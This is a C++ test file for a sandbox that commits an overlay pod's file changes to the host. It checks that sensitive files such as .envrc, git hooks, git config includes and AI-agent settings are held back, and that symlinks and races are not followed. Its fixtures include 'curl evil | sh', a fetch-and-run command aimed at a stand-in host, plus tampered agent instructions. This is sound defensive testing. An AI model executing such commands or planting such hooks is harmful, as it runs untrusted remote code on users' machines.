// Bringing changes to the host: what is taken, what is left, and that nobody's link is followed on the way.
#include "changes/commit.h"

#include <fcntl.h>
#include <stdio.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>

#include <atomic>
#include <filesystem>
#include <thread>

#include "changes/change_text.h"
#include "changes/host_writer.h"
#include "changes/overlay_pod.h"

namespace weir::changes::testing {
namespace {

class CommitTest : public OverlayPodTest {
 protected:
  // As the pod would have left it: a file of the upper layer, or a deletion.
  void left(const Pod& pod, const std::string& path, const std::string& text, mode_t mode = 0644) const {
    write(pod.upper + "/" + path, text, mode);
  }
  void whiteout(const Pod& pod, const std::string& path) const {
    const std::string whole = pod.upper + "/" + path;
    ASSERT_TRUE(os::make_dirs(whole.substr(0, whole.rfind('/')), 0755));
    ASSERT_EQ(::mknod(whole.c_str(), S_IFCHR | 0600, makedev(0, 0)), 0);
  }
  std::size_t leftovers() const {
    std::size_t count = 0;
    for (const auto& one : std::filesystem::recursive_directory_iterator(workspace_))
      count += one.path().filename().string().starts_with(".weir-") ? 1 : 0;
    return count;
  }
};

TEST_F(CommitTest, BringsAllThatARealPodDid) {
  write("changed.txt", "before\n");
  write("gone.txt", "x");
  write("tree/a", "1");
  write("tree/sub/b", "2");
  write("becomes-file/x", "1");
  write("becomes-dir", "1");
  write("quiet.txt", "q", 0644);
  const Pod pod = begin();
  if (!in_pod(pod, R"(
    echo after > changed.txt
    rm gone.txt; rm -r tree
    rm -r becomes-file; echo now > becomes-file
    rm becomes-dir; mkdir becomes-dir; echo in > becomes-dir/inside
    mkdir -p added/empty; echo hello > added/file; ln -s file added/link
    chmod 600 quiet.txt
  )"))
    GTEST_SKIP() << "no overlay in a user namespace here";
  const auto report = committed(pod);
  EXPECT_TRUE(report.complete()) << results(report);
  EXPECT_EQ(read("changed.txt"), "after\n");
  EXPECT_FALSE(exists("gone.txt"));
  EXPECT_FALSE(exists("tree"));
  EXPECT_EQ(read("becomes-file"), "now\n");
  EXPECT_EQ(read("becomes-dir/inside"), "in\n");
  EXPECT_EQ(read("added/file"), "hello\n");
  EXPECT_EQ(std::filesystem::read_symlink(workspace_ + "/added/link"), "file");
  EXPECT_TRUE(std::filesystem::is_directory(workspace_ + "/added/empty"));
  EXPECT_EQ(mode("quiet.txt"), 0600u);
  EXPECT_EQ(listed(pod), "");  // nothing is left to commit
  EXPECT_EQ(leftovers(), 0u);
  EXPECT_FALSE(os::exists(store().directory(pod) + "/commit.jsonl"));
  EXPECT_EQ(results(committed(pod)), "");
}

TEST_F(CommitTest, FindsItsWayThroughLongPaths) {
  // Longer than what a string keeps in itself.
  const std::string path =
      "one-directory-with-a-name/another-directory-with-a-name/a-third-one-below-these/file";
  write(path, "old");
  const Pod pod = begin();
  left(pod, path, "new");
  left(pod, path + "s/in/new/directories/with/names/that/are/made/on/the/way", "new");
  const auto report = committed(pod);
  EXPECT_TRUE(report.complete()) << results(report);
  EXPECT_EQ(read(path), "new");
}

TEST_F(CommitTest, HeldFilesComeOnlyByTheirName) {
  write(".claude/settings.json", "{}");
  const Pod pod = begin();
  left(pod, "src/a.c", "int a;\n");
  left(pod, ".envrc", "curl evil | sh\n");
  left(pod, "sub/.git/hooks/pre-commit", "#!/bin/sh\n", 0755);
  left(pod, "run", "#!/bin/sh\n", 0755);
  whiteout(pod, ".claude/settings.json");
  auto report = committed(pod);
  EXPECT_EQ(
      results(report),
      "held .claude/settings.json\nheld .envrc\nheld run\ndone src/a.c\nheld sub/.git/hooks/pre-commit\n");
  EXPECT_TRUE(report.complete());  // a bare commit is not asked for them
  EXPECT_FALSE(exists(".envrc"));
  EXPECT_FALSE(exists("sub"));
  // Named as a path it is refused, by a directory above it as well; only --held takes it.
  report = committed(pod, {.paths = {".envrc"}, .held = {}, .force = {}});
  EXPECT_EQ(results(report), "held .envrc\n");
  EXPECT_FALSE(report.complete());
  report = committed(pod, {.paths = {"sub"}, .held = {}, .force = {}});
  EXPECT_EQ(results(report), "held sub/.git/hooks/pre-commit\n");
  EXPECT_FALSE(report.complete());  // asked for, and nothing of it came
  report = committed(pod, {.paths = {}, .held = {".envrc", ".claude/settings.json"}, .force = {}});
  EXPECT_TRUE(report.complete()) << results(report);
  EXPECT_EQ(read(".envrc"), "curl evil | sh\n");
  EXPECT_FALSE(exists(".claude/settings.json"));
  EXPECT_FALSE(exists("run"));
}

TEST_F(CommitTest, ADirectoryAfterHeldNamesWhatIsHeldBelowIt) {
  const Pod pod = begin();
  left(pod, "sub/Makefile", "all:\n");
  left(pod, "sub/deep/.envrc", "x");
  left(pod, "sub/plain", "x");
  left(pod, "substitute/Makefile", "all:\n");
  auto report = committed(pod, {.paths = {}, .held = {"sub"}, .force = {}});
  EXPECT_TRUE(report.complete()) << results(report);
  EXPECT_EQ(results(report), "done sub/Makefile\ndone sub/deep/.envrc\n");
  EXPECT_FALSE(exists("sub/plain"));  // --held names what is held and no more
  EXPECT_EQ(results(committed(pod, {.paths = {}, .held = {"sub"}, .force = {}})), "refused sub\n");
}

TEST_F(CommitTest, ALinkOfTheWorkspaceGivesItsNameToWhatItLeadsTo) {
  write("docs/agents.md", "be kind\n");
  write("config/claude/settings.json", "{}");
  ASSERT_EQ(::symlink("docs/agents.md", (workspace_ + "/CLAUDE.md").c_str()), 0);
  ASSERT_EQ(::symlink("config/claude", (workspace_ + "/.claude").c_str()), 0);
  const Pod pod = begin();
  left(pod, "docs/agents.md", "be evil\n");
  left(pod, "docs/other.md", "x");
  left(pod, "config/claude/settings.json", "{\"hooks\":{}}");
  EXPECT_EQ(results(committed(pod)),
            "held config/claude/settings.json\nheld docs/agents.md\ndone docs/other.md\n");
}

TEST_F(CommitTest, TakingThatLinkAwayDoesNotFreeWhatItLedTo) {
  write("config/claude/settings.json", "{}");
  ASSERT_EQ(::symlink("config/claude", (workspace_ + "/.claude").c_str()), 0);
  const Pod pod = begin();
  left(pod, ".claude/x", "a directory now");
  left(pod, "config/claude/settings.json", "{\"hooks\":{}}");
  EXPECT_EQ(results(committed(pod)), "held .claude\nheld .claude/x\nheld config/claude/settings.json\n");
}

TEST_F(CommitTest, WhatGitsConfigurationNamesCountsAsGits) {
  write(".git/config",
        "[include]\n\tpath = ../project.cfg\n[core]\n\thooksPath = tools/hooks\n\tfsmonitor = ./watch.sh "
        "--all\n");
  write("project.cfg", "[includeIf \"gitdir:/x\"]\n\tpath = deep/more.cfg\n");
  write("deep/more.cfg", "[filter \"x\"]\n\tclean = \"" + workspace_ + "/clean.sh\" %f\n");
  const Pod pod = begin();
  left(pod, "project.cfg", "[core]\n\tfsmonitor = evil\n");
  left(pod, "deep/more.cfg", "[core]\n\tfsmonitor = evil\n");
  left(pod, "deep/other.cfg", "x");
  left(pod, "tools/hooks/pre-commit", "#!/bin/sh\n");
  left(pod, "tools/plain", "x");
  left(pod, "watch.sh", "evil");
  left(pod, "clean.sh", "evil");
  EXPECT_EQ(results(committed(pod)),
            "held clean.sh\nheld deep/more.cfg\ndone deep/other.cfg\nheld project.cfg\nheld "
            "tools/hooks/pre-commit\n"
            "done tools/plain\nheld watch.sh\n");
}

TEST_F(CommitTest, HooksAtTheTopHoldEverything) {
  write(".git/config", "[core]\n\thooksPath = .\n");
  const Pod pod = begin();
  left(pod, "pre-commit", "evil");
  EXPECT_EQ(results(committed(pod)), "held pre-commit\n");
}

TEST_F(CommitTest, ALoopOfGitsIncludesEnds) {
  write(".git/config", "[include]\n\tpath = ../a.cfg\n");
  write("a.cfg",
        "[include]\n\tpath = .git/config\n\tpath = a.cfg\n\tpath = ../../outside\n\tpath = /etc/gitconfig\n");
  const Pod pod = begin();
  left(pod, "a.cfg", "");
  left(pod, "b.cfg", "");
  EXPECT_EQ(results(committed(pod)), "held a.cfg\ndone b.cfg\n");
}

TEST_F(CommitTest, PathsChooseWholeDirectoriesOrFiles) {
  const Pod pod = begin();
  left(pod, "a/x", "1");
  left(pod, "a/y", "1");
  left(pod, "ab", "1");
  EXPECT_EQ(results(committed(pod, {.paths = {"a"}, .held = {}, .force = {}})), "done a/x\ndone a/y\n");
  const auto report = committed(pod, {.paths = {"nowhere"}, .held = {}, .force = {}});
  EXPECT_EQ(results(report), "");
  EXPECT_EQ(report.unknown, std::vector<std::string>{"nowhere"});
  EXPECT_FALSE(report.complete());
  EXPECT_FALSE(exists("ab"));
}

TEST_F(CommitTest, WhatTheHostChangedTooIsAConflict) {
  write("a", "old");
  write("b", "old");
  write("c", "old");
  const Pod pod = begin();
  left(pod, "a", "pod's");
  left(pod, "b", "pod's");
  whiteout(pod, "c");
  write("a", "host's");
  write("c", "host's");
  write("d", "host's");
  left(pod, "d", "pod's");
  auto report = committed(pod);
  EXPECT_EQ(results(report), "conflict a\ndone b\nconflict c\nconflict d\n");
  EXPECT_FALSE(report.complete());
  EXPECT_EQ(read("a"), "host's");
  EXPECT_EQ(read("c"), "host's");
  report = committed(pod, {.paths = {}, .held = {}, .force = {"a", "c"}});
  EXPECT_TRUE(report.complete()) << results(report);
  EXPECT_EQ(read("a"), "pod's");
  EXPECT_FALSE(exists("c"));
  EXPECT_EQ(read("d"), "host's");
}

TEST_F(CommitTest, WhatChangedSinceItWasShownIsAConflict) {
  write("a", "old");
  const Pod pod = begin();
  left(pod, "a", "shown");
  left(pod, "b", "shown");
  left(pod, "c", "shown");
  ASSERT_TRUE(remember_shown(open(pod), review(pod), {}));
  left(pod, "a", "swapped in later");
  write("b", "the host was quicker");
  const auto report = committed(pod);
  EXPECT_EQ(results(report), "conflict a\nconflict b\ndone c\n");
  EXPECT_EQ(read("a"), "old");
}

TEST_F(CommitTest, WhatNoReviewHasShownStaysOnceThereWasOne) {
  const Pod pod = begin();
  left(pod, "a", "shown");
  left(pod, "new/b", "shown");
  ASSERT_TRUE(remember_shown(open(pod), review(pod), {}));
  left(pod, "late", "nobody has seen this");
  left(pod, "new/late", "nor this");
  left(pod, ".envrc", "nor this");
  auto report = committed(pod);
  EXPECT_EQ(results(report), "held .envrc\ndone a\nconflict late\ndone new/b\nconflict new/late\n");
  EXPECT_FALSE(report.complete());
  EXPECT_FALSE(exists("late"));
  EXPECT_FALSE(exists("new/late"));
  EXPECT_EQ(results(committed(pod, {.paths = {}, .held = {".envrc"}, .force = {}})), "conflict .envrc\n");
  ASSERT_TRUE(remember_shown(open(pod), review(pod), {}));
  EXPECT_EQ(results(committed(pod)), "held .envrc\ndone late\ndone new/late\n");
}

TEST_F(CommitTest, PermissionsThatTheHostGaveADirectoryMeanwhileStay) {
  write("closed/x", "1");
  write("pods/x", "1");
  ASSERT_EQ(::chmod((workspace_ + "/closed").c_str(), 0755), 0);
  const Pod pod = begin();
  left(pod, "closed/x", "2");  // the directory was copied with the permissions of that time
  ASSERT_EQ(::chmod((pod.upper + "/closed").c_str(), 0755), 0);
  left(pod, "pods/x", "2");
  ASSERT_EQ(::chmod((pod.upper + "/pods").c_str(), 0700), 0);
  ASSERT_EQ(::chmod((workspace_ + "/closed").c_str(), 0700), 0);
  const auto report = committed(pod);
  EXPECT_EQ(results(report), "conflict closed\ndone closed/x\ndone pods\ndone pods/x\n");
  EXPECT_EQ(mode("closed"), 0700u);
  EXPECT_EQ(mode("pods"), 0700u);
}

TEST_F(CommitTest, ADirectoryThatTheHostMadeWhereThePodMadeAFileIsAConflict) {
  const Pod pod = begin();
  left(pod, "x", "file");
  ASSERT_EQ(::mkdir((workspace_ + "/x").c_str(), 0755), 0);
  EXPECT_EQ(results(committed(pod)), "conflict x\n");
  EXPECT_TRUE(std::filesystem::is_directory(workspace_ + "/x"));
}

TEST_F(CommitTest, WhatTheHostRemovedDoesNotComeBackUnasked) {
  for (const char* one : {"d/gone", "d/moved", "d/edited", "e/linked", "e/touched"})
    write(one, one);
  const Pod pod = begin();
  if (!in_pod(pod, R"(
    echo more >> d/gone
    mv d/moved d/new-name
    mv e/touched e/other; echo more >> e/other
    ln e/linked e/second
  )"))
    GTEST_SKIP() << "no overlay in a user namespace here";
  ASSERT_EQ(::unlink((workspace_ + "/d/gone").c_str()), 0);
  EXPECT_EQ(results(committed(pod)),
            "conflict d/gone\ndone d/moved\ndone d/new-name\ndone e/other\ndone e/second\ndone e/touched\n");
  EXPECT_FALSE(exists("d/gone"));
  EXPECT_EQ(results(committed(pod, {.paths = {}, .held = {}, .force = {"d/gone"}})), "done d/gone\n");
}

TEST_F(CommitTest, WhatIsNotOursUnderATemporaryNameIsNotRemoved) {
  write("a", "host's newer");
  const Pod pod = begin();
  left(pod, "a", "pod's");
  const OpenPod opened = open(pod);
  const auto list = changes(pod);
  HostWriter writer(opened.host.get(), opened.upper.get());
  auto staged = writer.stage(list.at(0), ".weir-test");
  ASSERT_TRUE(staged);
  // A swap that could not be undone: the host's file has the temporary name alone.
  ASSERT_EQ(::renameat2(AT_FDCWD, (workspace_ + "/a").c_str(), AT_FDCWD, (workspace_ + "/.weir-test").c_str(),
                        RENAME_EXCHANGE),
            0);
  writer.drop(*staged);
  EXPECT_EQ(read(".weir-test"), "host's newer");
  // Nor after a kill at that moment, by the next commit: it stops and names it.
  PathRecords journal;
  journal["a"] = {.host = "file:644:" + std::string(64, '0'),
                  .pod = state_text(list.at(0).pod),
                  .temporary = ".weir-test",
                  .held = false,
                  .forced = false};
  ASSERT_TRUE(
      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
  const auto refused = commit(store(), pod, catalogue(), {});
  ASSERT_FALSE(refused);
  EXPECT_NE(refused.error().message().find(".weir-test"), std::string::npos) << refused.error().message();
  EXPECT_EQ(read(".weir-test"), "host's newer");
  // What was compared may go.
  journal["a"].host = state_text(list.at(0).host);
  ASSERT_TRUE(
      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
  EXPECT_TRUE(commit(store(), pod, catalogue(), {}));
  EXPECT_FALSE(exists(".weir-test"));
}

TEST_F(CommitTest, ALinkToItselfLeadsNowhere) {
  const Pod pod = begin();
  ASSERT_EQ(::symlink("loop", (pod.upper + "/loop").c_str()), 0);
  EXPECT_EQ(results(committed(pod)), "done loop\n");
}

TEST_F(CommitTest, DirectoriesGoOnlyWithAllThatIsInThem) {
  write("d/Makefile", "all:\n");
  write("d/x", "1");
  const Pod pod = begin();
  whiteout(pod, "d");
  const auto report = committed(pod);
  EXPECT_EQ(results(report), "held d\nheld d/Makefile\ndone d/x\n");
  EXPECT_TRUE(exists("d/Makefile"));
  write("d/new-on-host", "1");
  EXPECT_EQ(results(committed(pod, {.paths = {}, .held = {"d/Makefile"}, .force = {}})), "done d/Makefile\n");
  EXPECT_EQ(results(committed(pod)), "conflict d\nconflict d/new-on-host\n");
  EXPECT_TRUE(exists("d/new-on-host"));
}

TEST_F(CommitTest, GivesNoSpecialBitsAndNoWriteToOthers) {
  write("shared", "x", 0664);
  const Pod pod = begin();
  left(pod, "suid", "x", 06644);
  left(pod, "open", "x", 0666);
  left(pod, "shared", "y", 0666);
  (void)committed(pod);
  EXPECT_EQ(mode("suid"), 0644u);
  EXPECT_EQ(mode("open"), 0644u);
  EXPECT_EQ(mode("shared"), 0664u);
  EXPECT_EQ(listed(pod), "");
}

TEST_F(CommitTest, KeepsHolesAndAnyName) {
  const Pod pod = begin();
  left(pod, "big", "start");
  ASSERT_EQ(::truncate((pod.upper + "/big").c_str(), off_t{10} << 30), 0);
  left(pod, "new\nline", "x");
  const auto report = committed(pod);
  EXPECT_TRUE(report.complete()) << results(report);
  struct stat raw;
  ASSERT_EQ(::stat((workspace_ + "/big").c_str(), &raw), 0);
  EXPECT_EQ(raw.st_size, off_t{10} << 30);
  EXPECT_LT(raw.st_blocks, 8192);
  EXPECT_EQ(read("new\nline"), "x");
}

TEST_F(CommitTest, ALinkInTheWayOnTheHostIsNotFollowed) {
  write(dir_ + "/outside/keep", "mine");
  const Pod pod = begin();
  left(pod, "d/keep", "pod's");
  left(pod, "d/new", "pod's");
  ASSERT_EQ(::symlink((dir_ + "/outside").c_str(), (workspace_ + "/d").c_str()), 0);
  const auto report = committed(pod);
  EXPECT_FALSE(report.complete()) << results(report);
  EXPECT_EQ(read(dir_ + "/outside/keep"), "mine");
  EXPECT_FALSE(os::exists(dir_ + "/outside/new"));
}

TEST_F(CommitTest, AnotherDirectoryUnderTheWorkspacesNameIsRefused) {
  const Pod pod = begin();
  left(pod, "a", "1");
  ASSERT_EQ(::rename(workspace_.c_str(), (dir_ + "/moved").c_str()), 0);
  ASSERT_EQ(::mkdir(workspace_.c_str(), 0755), 0);
  const auto report = commit(store(), pod, catalogue(), {});
  ASSERT_FALSE(report);
  EXPECT_EQ(report.error().code, ErrorCode::denied);
  EXPECT_FALSE(exists("a"));
}

TEST_F(CommitTest, RacingLinksOnTheHostLeadNowhere) {
  write(dir_ + "/outside/f0", "mine");
  std::atomic<bool> stop{false};
  std::thread racer([&] {
    const std::string d = workspace_ + "/d";
    const std::string aside = workspace_ + "/aside";
    while (!stop) {
      ::rename(d.c_str(), aside.c_str());
      (void)!::symlink((dir_ + "/outside").c_str(), d.c_str());
      ::unlink(d.c_str());
      ::rename(aside.c_str(), d.c_str());
    }
  });
  for (int round = 0; round < 30; ++round) {
    const auto made = store().create(workspace_, "race");
    ASSERT_TRUE(made);
    for (int i = 0; i < 5; ++i)
      left(*made, "d/f" + std::to_string(i), "round " + std::to_string(round));
    (void)commit(store(), *made, catalogue(), {});  // whatever it says
  }
  stop = true;
  racer.join();
  EXPECT_EQ(os::list_dir(dir_ + "/outside"), std::vector<std::string>{"f0"});
  EXPECT_EQ(read(dir_ + "/outside/f0"), "mine");
}

TEST_F(CommitTest, AnInterruptedCommitIsFinishedAsItWasAskedFor) {
  write("a", "old");
  const Pod pod = begin();
  left(pod, "a", "new");
  left(pod, ".envrc", "x");
  // What kill -9 leaves between journal and the first change: the journal, and a file beside its place.
  PathRecords journal;
  for (const auto& one : review(pod).changes)
    journal[one.change.path] = {.host = state_text(one.change.host),
                                .pod = state_text(one.change.pod),
                                .temporary = ".weir-0011223344556677-" + std::to_string(journal.size()),
                                .held = true,
                                .forced = false};
  ASSERT_TRUE(
      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
  write(journal["a"].temporary, "half");
  EXPECT_EQ(leftovers(), 1u);
  const auto report = committed(pod);
  EXPECT_TRUE(report.resumed);
  EXPECT_EQ(results(report), "done .envrc\ndone a\n");
  EXPECT_EQ(leftovers(), 0u);
}

TEST_F(CommitTest, AJournalGivesNothingForWhatThePodChangedSince) {
  const Pod pod = begin();
  left(pod, ".envrc", "harmless");
  PathRecords journal;
  const auto shown = review(pod).changes.at(0).change;
  journal[".envrc"] = {.host = state_text(shown.host),
                       .pod = state_text(shown.pod),
                       .temporary = ".weir-0011223344556677-0",
                       .held = true,
                       .forced = true};
  ASSERT_TRUE(
      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
  left(pod, ".envrc", "curl evil | sh");
  EXPECT_EQ(results(committed(pod)), "held .envrc\n");
}

TEST_F(CommitTest, ADirectoryHalfMadeByAnInterruptedCommitIsNoConflict) {
  const Pod pod = begin();
  left(pod, "new/deep/a", "x");
  const auto shown = review(pod);
  ASSERT_TRUE(remember_shown(open(pod), shown, {}));
  const Change& file = shown.changes.back().change;
  PathRecords journal;
  journal[file.path] = {.host = state_text(file.host),
                        .pod = state_text(file.pod),
                        .temporary = ".weir-0011223344556677-0",
                        .held = false,
                        .forced = false};
  ASSERT_TRUE(
      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
  ASSERT_EQ(::mkdir((workspace_ + "/new").c_str(), 0700), 0);
  EXPECT_EQ(results(committed(pod)), "done new\ndone new/deep/a\n");
  EXPECT_EQ(mode("new"), 0755u);
}

TEST_F(CommitTest, HardLinksOnTheHostAreNoConflictAfterAnInterruption) {
  write("one", "old");
  ASSERT_EQ(::link((workspace_ + "/one").c_str(), (workspace_ + "/two").c_str()), 0);
  const Pod pod = begin();
  left(pod, "one", "new");
  left(pod, "two", "new");
  PathRecords journal;
  for (const auto& one : review(pod).changes)
    journal[one.change.path] = {.host = state_text(one.change.host),
                                .pod = state_text(one.change.pod),
                                .temporary = ".weir-0011223344556677-" + std::to_string(journal.size()),
                                .held = false,
                                .forced = false};
  ASSERT_TRUE(
      write_path_records(store().directory(pod) + "/commit.jsonl", "commit", journal, os::Durability::none));
  ASSERT_EQ(::unlink((workspace_ + "/one").c_str()), 0);
  write("one", "new");  // the interrupted commit had come so far; two's ctime moved with its link count
  EXPECT_EQ(results(committed(pod)), "done two\n");
}

TEST_F(CommitTest, DiscardedChangesAreGoneUntilThePodChangesThemAgain) {
  const Pod pod = begin();
  left(pod, "a", "1");
  left(pod, "sub/b", "1");
  EXPECT_EQ(*discard_paths(open(pod), review(pod), {"sub"}), 2u);  // the directory and its file
  EXPECT_EQ(review(pod).changes.size(), 1u);
  EXPECT_EQ(review(pod).discarded, 2u);
  EXPECT_EQ(results(committed(pod)), "done a\n");
  EXPECT_FALSE(exists("sub"));
  left(pod, "sub/b", "2");
  EXPECT_EQ(results(committed(pod)), "done sub/b\n");
}

TEST_F(CommitTest, TextIsWhatWasComparedOrNothing) {
  write("a", "one\n");
  const Pod pod = begin();
  left(pod, "a", "two\n");
  left(pod, "big", std::string(kShownBytesMax + 1, 'x'));
  const OpenPod opened = open(pod);
  const auto list = changes(pod);
  const auto text = change_text(opened, list.at(0));
  ASSERT_TRUE(text);
  EXPECT_EQ(text->patch.text, "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1 @@\n-one\n+two\n");
  EXPECT_NE(change_text(opened, list.at(1))->note, "");
  left(pod, "a", "six\n");
  EXPECT_FALSE(change_text(opened, list.at(0)));
}

}  // namespace
}  // namespace weir::changes::testing
